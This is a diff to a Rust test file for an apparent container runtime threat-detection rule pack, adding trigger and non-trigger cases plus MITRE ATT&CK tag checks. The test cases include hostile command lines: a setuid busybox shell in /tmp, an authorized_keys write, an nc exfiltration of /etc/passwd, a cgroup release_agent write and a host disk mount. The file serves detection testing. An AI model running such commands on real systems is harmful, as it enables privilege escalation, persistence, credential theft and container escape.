@@ -203,6 +203,37 @@ fn cases() -> Vec<(&'static str, CandidateAlert, CandidateAlert)> {
             candidate("/usr/bin/nsenter", &["nsenter", "-t", "4242", "-n", "ss"]),
         ),
         (
+            "setuid-or-setgid-bit-set",
+            // busybox chmod inside a shell: only the command line shows it
+            candidate("/bin/sh", &["sh", "-c", "cp /bin/busybox /tmp/.sh; chmod 4755 /tmp/.sh"]),
+            candidate("/bin/chmod", &["chmod", "1777", "/tmp"]),
+        ),
+        (
+            "user-startup-file-modified",
+            file("/bin/sh", &["sh"], "/root/.ssh/authorized_keys", FileAccess::Write),
+            file("/bin/sh", &["sh"], "/root/.ssh/known_hosts", FileAccess::Write),
+        ),
+        (
+            "file-sent-with-network-tool",
+            candidate("/bin/sh", &["sh", "-c", "nc -w 1 203.0.113.7 9999 < /etc/passwd"]),
+            candidate("/bin/sh", &["sh", "-c", "nc -z 203.0.113.7 9999 < /dev/null"]),
+        ),
+        (
+            "kernel-escape-interface-write",
+            file(
+                "/bin/sh",
+                &["sh"],
+                "/sys/fs/cgroup/rdma/release_agent",
+                FileAccess::Write,
+            ),
+            file("/bin/cat", &["cat"], "/proc/sys/kernel/core_pattern", FileAccess::Read),
+        ),
+        (
+            "host-disk-mounted",
+            candidate("/bin/sh", &["sh", "-c", "mkdir /h; mount -t ext4 /dev/sda1 /h"]),
+            candidate("/bin/mount", &["mount", "-t", "tmpfs", "tmpfs", "/scratch"]),
+        ),
+        (
             "node-control-plane-port",
             peer("/bin/nc", &["nc", "10.0.0.1", "10250"], 10250, Direction::Outbound),
             peer("/bin/nc", &["nc", "10.0.0.1", "10250"], 10250, Direction::Inbound),
@@ -247,9 +278,36 @@ fn every_default_rule_has_a_test_case() {
 fn the_default_pack_covers_the_issue_list() {
     let set = pack();
     assert!(set.rules().len() >= 20);
+    let technique = regex::Regex::new(r"^T[0-9]{4}(\.[0-9]{3})?$").unwrap();
     for r in set.rules() {
         assert!(!r.tags().is_empty(), "{} has no MITRE tag", r.id());
+        for t in r.tags() {
+            assert!(
+                technique.is_match(t),
+                "{}: {t} is not an ATT&CK technique id",
+                r.id()
+            );
+        }
         assert_eq!(r.source(), "default");
+    }
+}
+
+#[test]
+fn the_coverage_table_lists_every_rule_and_technique() {
+    let doc = include_str!("../../../../docs/attack-coverage.md");
+    for r in pack().rules() {
+        assert!(
+            doc.contains(&format!("`{}`", r.id())),
+            "docs/attack-coverage.md does not list rule {}",
+            r.id()
+        );
+        for t in r.tags() {
+            assert!(
+                doc.contains(&format!("| {t} ")),
+                "docs/attack-coverage.md has no row for {t} (rule {})",
+                r.id()
+            );
+        }
     }
 }
 
